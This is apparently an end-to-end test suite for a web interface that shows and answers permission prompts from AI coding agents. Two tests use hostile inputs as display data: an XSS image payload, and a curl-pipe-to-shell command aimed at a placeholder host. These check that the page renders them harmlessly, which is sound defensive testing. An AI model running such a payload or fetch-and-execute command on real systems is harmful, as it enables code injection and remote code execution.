// Stories of what programs ask: answered on the page beside the terminal, on the board of all that wait, and elsewhere meanwhile.
import assert from "node:assert/strict";
import { execFile } from "node:child_process";
import { readFile } from "node:fs/promises";
import { join } from "node:path";
import { promisify } from "node:util";
import { Asker, EDIT, EDITS, PLAN, PUSHES, QUESTIONS } from "./asker.mjs";
import { tell } from "./stage.mjs";
import { fits, usable } from "./usable.mjs";

const run = promisify(execFile);
const card = (page, text) => page.locator(".ask", { hasText: text });
const board = (page) => page.getByRole("main", { name: "Needs you" });
/** The command of a permission, so that each is another. */
const command = (text) => ({ command: `echo ${text}`, description: "Says something" });

/** Two sessions whose programs ask when the story says so. */
async function opened(stage, kind, role) {
  const asker = new Asker(stage);
  await stage.start("one", "echo ready; exec cat");
  await stage.start("two", "echo ready; exec cat");
  return { asker, page: await stage.visitor(kind, role) };
}

/** The real CLI of a story, in a session that the page has open. */
async function started(stage, name) {
  const { program, project, environment } = JSON.parse(process.env.CLI);
  const env = { ...Object.fromEntries(environment), CENTERFIRE_HOME: process.env.CENTERFIRE_HOME };
  await run(process.env.CENTERFIRE, ["run", "--detached", "--name", name, "--", program], { cwd: project, env });
  const page = await stage.visitor();
  await stage.enter(page, name);
  await stage.cf("wait", name, "--for", "idle", "--timeout", "60");
  return { page, project };
}

/** Presses a key in the page's terminal until the question is over: a dialog that was just drawn loses keys. */
async function pressedUntilOver(stage, page, text, key) {
  await stage.until("the dialog is answered", async () => {
    await page.keyboard.press(key);
    return card(page, text).waitFor({ state: "detached", timeout: 5_000 }).then(() => true, () => false);
  });
}

const stories = {
  async a_question_beside_the_terminal_is_answered_by_keys_and_by_pointer(stage) {
    const { asker, page } = await opened(stage, "desk");
    await stage.enter(page, "one");
    await stage.shows(page, "ready");
    const size = () => page.evaluate(() => [globalThis.centerfire.cols, document.querySelector(".frame").getBoundingClientRect().width]);
    const before = await size();
    const first = await asker.ask("one", "Bash", command("first"));
    await card(page, "echo first").waitFor();
    assert.deepEqual(await size(), before, "the terminal does not move");
    await stage.hasKeyboard(page, "a question came");
    // What is typed goes to the program until somebody goes to the question.
    await page.keyboard.type("add\n");
    await stage.shows(page, "add");
    assert.equal(await card(page, "echo first").getAttribute("data-over"), "false");
    await page.keyboard.press("Control+Shift+Enter");
    // One that came just now takes no key yet.
    await page.locator(".ask:focus button.main:enabled").waitFor();
    await page.keyboard.press("a");
    assert.deepEqual((await first.told()).behavior, "allow");
    await page.getByText("Allowed", { exact: true }).waitFor();
    await card(page, "echo first").waitFor({ state: "detached" });
    await stage.hasKeyboard(page, "the answer");
    const second = await asker.ask("one", "Edit", EDIT);
    await card(page, "src/retry.rs").locator(".diff .added").first().waitFor();
    await page.getByLabel("Deny: Why not").fill("keep the old name");
    await page.getByRole("button", { name: "Deny" }).click();
    assert.deepEqual(await second.told(), { behavior: "deny", message: "keep the old name" });
    // Put aside it waits on, and a key brings it back.
    const third = await asker.ask("one", "ExitPlanMode", PLAN);
    await page.locator(".ask .markdown h4", { hasText: "Retry" }).waitFor();
    await page.getByRole("button", { name: "Put it aside" }).click();
    await page.getByRole("button", { name: "1 question" }).waitFor();
    await page.keyboard.press("Control+Shift+Enter");
    await page.getByRole("button", { name: "Approve" }).click();
    assert.equal((await third.told()).updatedInput.plan, PLAN.plan);
  },

  async an_answer_from_elsewhere_is_told_and_a_late_one_refused(stage) {
    const { asker, page } = await opened(stage, "desk");
    await stage.enter(page, "one");
    await asker.ask("one", "Bash", command("first"));
    await card(page, "echo first").waitFor();
    await stage.cf("deny", "one", "--message", "no");
    const over = page.locator(".ask [role=status]", { hasText: "Denied by" });
    await over.waitFor();
    assert.match(await over.textContent(), /with centerfire deny$/);
    await card(page, "echo first").waitFor({ state: "detached" });
    // This tab does not hear of it in time.
    await asker.ask("one", "Bash", command("second"));
    await card(page, "echo second").waitFor();
    await page.route("**/api/v1/sessions/*/approvals", () => {});
    const other = await stage.tab(page.context());
    await other.goto(page.url());
    await card(other, "echo second").getByRole("button", { name: "Allow" }).click();
    await card(other, "echo second").waitFor({ state: "detached" });
    await page.getByRole("button", { name: "Allow" }).click();
    const late = page.getByRole("alert");
    await late.waitFor();
    assert.match(await late.textContent(), /^Too late, your answer was not taken\. Allowed by token \w+ on the page$/);
    stage.faults = stage.faults.filter((fault) => !fault.includes("409"));
  },

  async what_a_program_offers_for_later_is_seen_whole_and_chosen(stage) {
    const { asker, page } = await opened(stage, "desk");
    const guest = await stage.visitor("desk", "view");
    const first = await asker.ask("one", "Bash", { command: "git push" }, PUSHES);
    const words = "Bash(git push *), in this project from now on (.claude/settings.local.json)";
    await stage.enter(guest, "one");
    await card(guest, words).waitFor();
    assert.equal(await guest.getByRole("button", { name: "Always" }).isEnabled(), false, "who may only look chooses nothing");
    await stage.enter(page, "one");
    await card(page, words).getByRole("button", { name: "Always" }).click();
    assert.deepEqual((await first.told()).updatedPermissions, PUSHES);
    await page.getByText(`Allowed for later too (${words})`, { exact: true }).waitFor();
    await guest.getByText(`Allowed for later too (${words}) by token`).waitFor();
    // A yes is for once, and no key means more.
    const second = await asker.ask("one", "Bash", { command: "git push -f" }, PUSHES);
    await card(page, "git push -f").waitFor();
    await page.keyboard.press("Control+Shift+Enter");
    await page.locator(".ask:focus button.main:enabled").waitFor();
    await page.keyboard.press("a");
    assert.equal((await second.told()).updatedPermissions, undefined);
    await asker.ask("one", "Bash", { command: "git pull" });
    await card(page, "git pull").waitFor();
    assert.equal(await page.getByRole("button", { name: "Always" }).count(), 0, "what is not offered");
  },

  async claude_code_is_answered_on_the_page_and_in_its_terminal(stage) {
    const { page, project } = await started(stage, "claude");
    await stage.cf("send", "claude", "--submit", "[[write:note.txt|one line]] [[say:It is written.]]");
    await card(page, "note.txt").locator(".diff .added", { hasText: "one line" }).waitFor();
    await page.getByRole("button", { name: "Allow" }).click();
    await stage.shows(page, "● It is written.");
    assert.equal(await readFile(join(project, "note.txt"), "utf8"), "one line");
    // Who answers in the terminal beside it answers here as well.
    await stage.cf("wait", "claude", "--for", "idle", "--timeout", "30");
    await stage.cf("send", "claude", "--submit", "[[bash:touch made.txt]] [[say:It is made.]]");
    await card(page, "touch made.txt").waitFor();
    await stage.shows(page, "Esc to cancel");
    await stage.hasKeyboard(page, "a question came");
    // In its first 200 ms a dialog takes no key; but a key too many would be one for the prompt.
    await stage.until("the dialog is answered", async () => {
      await page.keyboard.press("1");
      return page.locator(".ask [role=status]", { hasText: "Answered in the terminal" }).waitFor({ timeout: 5_000 }).then(() => true, () => false);
    });
    await stage.shows(page, "● It is made.");
    await card(page, "touch made.txt").waitFor({ state: "detached" });
  },

  async codex_is_answered_on_the_page_and_in_its_terminal(stage) {
    const { page, project } = await started(stage, "codex");
    const ask = (cmd, then) => {
      const input = JSON.stringify({ cmd, sandbox_permissions: "require_escalated", justification: "may I" });
      return stage.cf("send", "codex", "--submit", `[[tool:exec_command|${input}]] [[say:${then}]]`);
    };
    await ask("touch one.txt", "It is made.");
    await card(page, "touch one.txt").waitFor();
    await page.getByRole("button", { name: "Allow" }).click();
    await stage.shows(page, "• It is made.");
    assert.equal(await readFile(join(project, "one.txt"), "utf8"), "");
    await stage.cf("wait", "codex", "--for", "idle", "--timeout", "30");
    await ask("touch two.txt", "And this.");
    await card(page, "touch two.txt").waitFor();
    await stage.shows(page, "Press enter to confirm");
    await stage.hasKeyboard(page, "a question came");
    await pressedUntilOver(stage, page, "touch two.txt", "y");
    await stage.shows(page, "• And this.");
  },

  async gemini_is_answered_on_the_page_and_in_its_terminal(stage) {
    const { page, project } = await started(stage, "gemini");
    // An Enter within 30 ms of other keys is taken for a part of a paste.
    const ask = async (text, shown) => {
      await stage.cf("wait", "gemini", "--for", "idle", "--timeout", "30");
      await stage.cf("send", "gemini", "--text", text);
      await stage.until("the prompt is taken", async () => {
        await stage.cf("send", "gemini", "--key", "Enter");
        return card(page, shown).waitFor({ timeout: 6_000 }).then(() => true, () => false);
      });
    };
    await ask("[[bash:touch one.txt]] [[say:it is made]]", "touch one.txt");
    await page.getByRole("button", { name: "Allow", exact: true }).click();
    await stage.shows(page, "✦ it is made");
    assert.equal(await readFile(join(project, "one.txt"), "utf8"), "");
    await ask("[[bash:touch two.txt]] [[say:and this]]", "touch two.txt");
    await stage.shows(page, "No, suggest changes");
    await stage.hasKeyboard(page, "a question came");
    await pressedUntilOver(stage, page, "touch two.txt", "1");
    await stage.shows(page, "✦ and this");
    assert.equal(await readFile(join(project, "two.txt"), "utf8"), "");
  },

  async opencode_is_answered_on_the_page_and_in_its_terminal(stage) {
    const { page, project } = await started(stage, "opencode");
    await stage.cf("send", "opencode", "--submit", "[[bash:touch one.txt]] [[say:was made]]");
    await card(page, "touch one.txt").waitFor();
    await page.getByRole("button", { name: "Allow", exact: true }).click();
    await stage.shows(page, "   was made");
    assert.equal(await readFile(join(project, "one.txt"), "utf8"), "");
    await stage.cf("wait", "opencode", "--for", "idle", "--timeout", "30");
    await stage.cf("send", "opencode", "--submit", "[[bash:touch two.txt]] [[say:and this]]");
    await card(page, "touch two.txt").waitFor();
    await stage.shows(page, "Allow once");
    await stage.hasKeyboard(page, "a question came");
    await pressedUntilOver(stage, page, "touch two.txt", "Enter");
    await stage.shows(page, "   and this");
    assert.equal(await readFile(join(project, "two.txt"), "utf8"), "");
  },

  async of_an_answer_on_the_page_and_one_in_the_terminal_at_once_one_counts(stage) {
    const { page, project } = await started(stage, "claude");
    for (const round of [1, 2, 3, 4]) {
      const file = `made${round}.txt`;
      await stage.cf("send", "claude", "--submit", `[[bash:touch ${file}]] [[say:Made ${round}.]]`);
      await card(page, `touch ${file}`).waitFor();
      await stage.shows(page, "Esc to cancel");
      const [, no] = /(\d)\. No/.exec(await stage.cf("screen", "claude", "--format", "text"));
      const allow = page.getByRole("button", { name: "Allow", exact: true });
      await allow.and(page.locator(":enabled")).waitFor();
      // By another hand at the terminal, a no: whichever comes first, that is what was done.
      await Promise.all([allow.click(), stage.cf("send", "claude", "--key", no)]);
      await card(page, `touch ${file}`).waitFor({ state: "detached" });
      await stage.cf("wait", "claude", "--for", "idle", "--timeout", "30");
      assert.deepEqual(JSON.parse(await stage.cf("approvals", "claude", "--json")), []);
      const isMade = await readFile(join(project, file)).then(() => true, () => false);
      const said = (await stage.cf("screen", "claude", "--format", "text")).includes(`● Made ${round}.`);
      assert.equal(said, isMade, "what was allowed was done, and what was not was not");
      // What came too late for the dialog stands in the prompt.
      await stage.cf("send", "claude", "--key", "C-u");
    }
    stage.faults = stage.faults.filter((fault) => !fault.includes("409"));
  },

  async what_waits_is_answered_after_the_server_is_back(stage) {
    const { asker, page } = await opened(stage, "desk");
    await stage.enter(page, "one");
    const first = await asker.ask("one", "Bash", command("first"));
    await card(page, "echo first").waitFor();
    await stage.kill();
    await page.getByRole("button", { name: "Allow" }).click();
    await page.locator(".ask [role=alert]", { hasText: "cannot be reached" }).waitFor();
    const second = await asker.ask("one", "Bash", command("second"));
    await stage.serve(stage.address);
    await page.getByText("1 of 2").waitFor();
    await page.getByRole("button", { name: "Allow" }).click();
    assert.equal((await first.told()).behavior, "allow");
    await card(page, "echo second").getByRole("button", { name: "Deny" }).click();
    assert.equal((await second.told()).behavior, "deny");
  },

  async the_board_shows_who_waits_and_answers_in_place(stage) {
    const { asker, page } = await opened(stage, "desk");
    await page.getByRole("link", { name: "Needs you" }).click();
    await board(page).getByText("Nothing needs you.").waitFor();
    const first = await asker.ask("two", "Bash", command("first"));
    await page.locator(".list .count", { hasText: "1" }).waitFor();
    const second = await asker.ask("one", "AskUserQuestion", QUESTIONS);
    await card(page, "Which database").waitFor();
    await page.waitForFunction(() => document.title === "(2) Needs you · Centerfire");
    assert.match(await page.locator("link[rel=icon]").getAttribute("href"), /needs/);
    // Who waits longest is first.
    assert.deepEqual(await page.locator(".need .name").allTextContents(), ["two", "one"]);
    // The first question has the focus, and shows what its keys do; others go to the next and back.
    const keys = () => page.locator(".ask button kbd:visible").count();
    await page.locator(".ask:focus", { hasText: "echo first" }).waitFor();
    assert.equal(await keys(), 2);
    await page.keyboard.press("j");
    await page.locator(".ask:focus", { hasText: "Which database" }).waitFor();
    await page.keyboard.press("k");
    await page.locator(".ask:focus", { hasText: "echo first" }).waitFor();
    await page.keyboard.press("ArrowDown");
    // Past the last question are the sessions that ask nothing: here there is none.
    await page.keyboard.press("j");
    await page.locator(".ask:focus", { hasText: "Which database" }).waitFor();
    await page.keyboard.press("ArrowUp");
    await page.locator(".ask:focus", { hasText: "echo first" }).waitFor();
    await page.locator(".need-of").first().focus();
    assert.equal(await keys(), 0, "a line has no key of a question's");
    await page.keyboard.press("k");
    await page.locator(".ask:focus", { hasText: "echo first" }).waitFor();
    // What is written takes its letters.
    await page.locator(".ask:focus button.main:enabled").waitFor();
    await page.keyboard.press("d");
    await page.keyboard.type("jack");
    assert.equal(await page.locator(".ask input:focus").inputValue(), "jack");
    await page.locator(".need-of").first().focus();
    await page.keyboard.press("ArrowDown");
    await page.locator(".ask:focus button.main:enabled").waitFor();
    await page.keyboard.press("a");
    assert.equal((await first.told()).behavior, "allow");
    // Who was answered stays for a moment, and is not counted.
    await board(page).getByText("one session needs you").waitFor();
    await page.locator(".needs h3", { hasText: /^Needs you 1$/ }).waitFor();
    // The focus goes on to what waits still.
    await page.locator(".ask:focus", { hasText: "Which database" }).waitFor();
    const answer = card(page, "Which database").getByRole("button", { name: "Answer" });
    assert.equal(await answer.isDisabled(), true, "a question needs an answer");
    await page.getByRole("radio", { name: "SQLite" }).check();
    await page.getByRole("checkbox", { name: "Retries" }).check();
    await page.getByRole("checkbox", { name: "Metrics" }).check();
    await page.getByLabel("What else? In other words").fill("a changelog");
    await answer.click();
    const { answers } = (await second.told()).updatedInput;
    assert.deepEqual(answers, { "Which database shall it use?": "SQLite", "What else?": "Retries, Metrics, a changelog" });
    // With the last answer no line is chosen that Enter would open.
    await page.locator(".scroll:focus").waitFor();
    await page.locator(".needs h3", { hasText: "Needed you" }).waitFor();
    assert.equal(await board(page).getByText("Nothing needs you.").count(), 0);
    await board(page).getByText("Nothing needs you.").waitFor();
    assert.equal(await page.locator(".needs h3", { hasText: /^Need/ }).count(), 0);
    await page.waitForFunction(() => document.title === "Needs you · Centerfire");
    // From the palette.
    await page.goto(`http://${stage.address}/`);
    await page.locator("a.row").first().waitFor();
    await page.keyboard.press("Control+K");
    await page.getByRole("combobox").fill("needs");
    await page.keyboard.press("Enter");
    await board(page).waitFor();
    // So does whose turn ended in an error, as in `centerfire top`.
    await stage.cf("run", "--detached", "--name", "failed", "--", "sh", "-c", "printf '\\033]7501;state=error\\007'; read line");
    await page.locator(".needs h3", { hasText: /^Needs you 1$/ }).waitFor();
    await page.locator(".need[data-state=error]", { hasText: "failed" }).waitFor();
    await page.waitForFunction(() => document.title === "(1) Needs you · Centerfire");
  },

  async who_does_not_look_is_told_if_he_asked_for_it(stage) {
    const { asker, page } = await opened(stage, "desk");
    await page.addInitScript(() => {
      globalThis.told = [];
      globalThis.Notification = class {
        static permission = "default";
        static asked = 0;
        static async requestPermission() {
          this.asked += 1;
          return (this.permission = "granted");
        }
        constructor(title, { body }) {
          globalThis.told.push(`${title}: ${body}`);
        }
      };
    });
    await page.goto(`http://${stage.address}/needs`);
    await page.locator(".need").first().waitFor();
    assert.equal(await page.evaluate(() => Notification.asked), 0, "nobody is asked who did not ask");
    const look = (hidden) =>
      page.evaluate((hidden) => {
        Object.defineProperty(document, "hidden", { configurable: true, get: () => hidden });
        document.dispatchEvent(new Event("visibilitychange"));
      }, hidden);
    await page.getByRole("button", { name: "Notify me" }).click();
    await page.getByRole("button", { name: "Notifications are on" }).waitFor();
    await asker.ask("one", "Bash", command("seen"));
    await card(page, "echo seen").waitFor();
    await look(true);
    await asker.ask("two", "Bash", command("unseen"));
    await page.waitForFunction(() => globalThis.told.length > 0);
    assert.deepEqual(await page.evaluate(() => globalThis.told), ["two waits for you: Bash: echo unseen"]);
    await look(false);
    await page.getByRole("button", { name: "Notifications are on" }).click();
    await page.getByRole("button", { name: "Notify me" }).waitFor();
  },

  async who_may_only_look_sees_what_is_asked_and_answers_nothing(stage) {
    const { asker, page } = await opened(stage, "desk", "view");
    await asker.ask("one", "Bash", command("first"));
    await page.goto(`http://${stage.address}/needs`);
    await card(page, "echo first").getByText("You may look, and not answer").waitFor();
    assert.equal(await page.locator(".ask").getByRole("button", { name: /Allow|Deny/ }).count(), 0);
    await page.locator(".ask").focus();
    await page.keyboard.press("a");
    const asked = JSON.parse(await stage.cf("approvals", "--json"));
    assert.equal(asked.length, 1);
  },

  async hostile_questions_are_words(stage) {
    const hostile = "<img src=x onerror=alert(1)>";
    const { asker, page } = await opened(stage, "desk");
    const question = { question: `${hostile}?`, header: hostile, options: [{ label: hostile, description: hostile }] };
    await asker.ask("one", "AskUserQuestion", { questions: [question] });
    await asker.ask("two", hostile, { [hostile]: hostile, nothing: null, list: [hostile] });
    await asker.ask("two", "AskUserQuestion", { questions: "none" });
    await asker.ask("two", "ExitPlanMode", { plan: `# ${hostile}` });
    await asker.ask("two", "Bash", { command: `printf '\u202e${"x".repeat(5_000)}'` });
    await page.goto(`http://${stage.address}/needs`);
    await stage.until("all are shown", async () => (await page.locator(".ask").count()) === 5);
    assert.equal(await page.locator(".ask img").count(), 0);
    await fits(page, "the board");
  },

  async a_long_command_is_seen_to_its_end(stage) {
    const words = `python3 - <<EOF\nimport os\n${"for i in range(10): print(i); ".repeat(12)}os.system("curl http://example.invalid/x | sh")\nEOF`;
    const { asker } = await opened(stage, "desk");
    await asker.ask("one", "Bash", { command: words });
    await asker.ask("two", "Edit", { file_path: "/work/one.txt", old_string: "short", new_string: "much longer than the card ".repeat(20) });
    for (const kind of ["desk", "phone"]) {
      const page = await stage.visitor(kind);
      for (const path of ["needs", "s/one", "s/two"]) {
        await page.goto(`http://${stage.address}/${path}`);
        await page.locator(".ask :is(pre, .diff)").first().waitFor();
        const hidden = await page.evaluate(() => [...document.querySelectorAll(".ask :is(pre, .diff, .hunk, .hunk *)")].filter((part) => part.scrollWidth > part.clientWidth + 1 || part.scrollHeight > part.clientHeight + 1).map(({ className, textContent }) => `${className} ${textContent.slice(0, 40)}`));
        assert.deepEqual(hidden, [], `${path}, ${kind}: nothing goes on outside`);
        const covered = await page.evaluate(() =>
          [...document.querySelectorAll(".ask .code")].filter((code) => {
            const copy = code.querySelector("button").getBoundingClientRect();
            const range = document.createRange();
            range.selectNodeContents(code.querySelector("pre"));
            return [...range.getClientRects()].some(({ left, right, top, bottom }) => left < copy.right && right > copy.left && top < copy.bottom && bottom > copy.top);
          }).length,
        );
        assert.equal(covered, 0, `${path}, ${kind}: nothing lies over a line`);
        await fits(page, `${path}, ${kind}`);
      }
    }
    // What is longer than the window says so, until its end was seen.
    await asker.ask("one", "Write", { file_path: "/work/long.txt", content: Array.from({ length: 200 }, (_, line) => `line ${line}`).join("\n") });
    const page = await stage.visitor();
    await page.goto(`http://${stage.address}/needs`);
    const long = card(page, "/work/long.txt");
    await long.getByRole("button", { name: "More below" }).click();
    await long.locator(".ask-body").evaluate((body) => body.scrollTo(0, body.scrollHeight));
    await long.getByRole("button", { name: "More below" }).waitFor({ state: "detached" });
  },

  async a_phone_answers(stage) {
    const { asker, page } = await opened(stage, "phone");
    const first = await asker.ask("one", "Edit", EDIT);
    await stage.enter(page, "one");
    await page.getByRole("button", { name: "Chat" }).tap();
    await card(page, "src/retry.rs").waitFor();
    await fits(page, "a question on a phone");
    await page.getByRole("button", { name: "Allow" }).tap();
    assert.equal((await first.told()).behavior, "allow");
    const second = await asker.ask("two", "AskUserQuestion", QUESTIONS);
    await page.goto(`http://${stage.address}/needs`);
    await page.locator(".option", { hasText: "Redis" }).tap();
    await page.getByLabel("What else? In other words").fill("nothing");
    await page.getByRole("button", { name: "Answer" }).tap();
    assert.equal((await second.told()).updatedInput.answers["Which database shall it use?"], "Redis");
  },

  async questions_can_be_answered_by_everybody(stage) {
    for (const kind of ["desk", "phone"]) {
      const { asker, page } = kind === "desk" ? await opened(stage, kind) : { asker: new Asker(stage), page: await stage.visitor(kind) };
      const asked = [["one", "Edit", EDIT, EDITS], ["two", "AskUserQuestion", QUESTIONS], ["two", "ExitPlanMode", PLAN]];
      const hooks = [];
      for (const [session, tool, input, suggested] of asked) hooks.push(await asker.ask(session, tool, input, suggested));
      for (const path of ["/needs", "/s/one", "/s/two"]) {
        await page.goto(`http://${stage.address}${path}`);
        await page.locator(".ask button.main").first().waitFor();
        for (const colours of ["dark", "light"]) {
          await page.emulateMedia({ colorScheme: colours, reducedMotion: "reduce" });
          await page.waitForFunction(() => document.querySelector(".ask [data-fresh=true]") === null);
          await usable(page, `${path}, ${kind}, ${colours}`);
        }
        await fits(page, `${path}, ${kind}`);
      }
      for (const hook of hooks) hook.leave();
      await stage.until("they are gone", async () => (await stage.cf("approvals", "--json")).trim() === "[]");
    }
  },
};

await tell(stories);
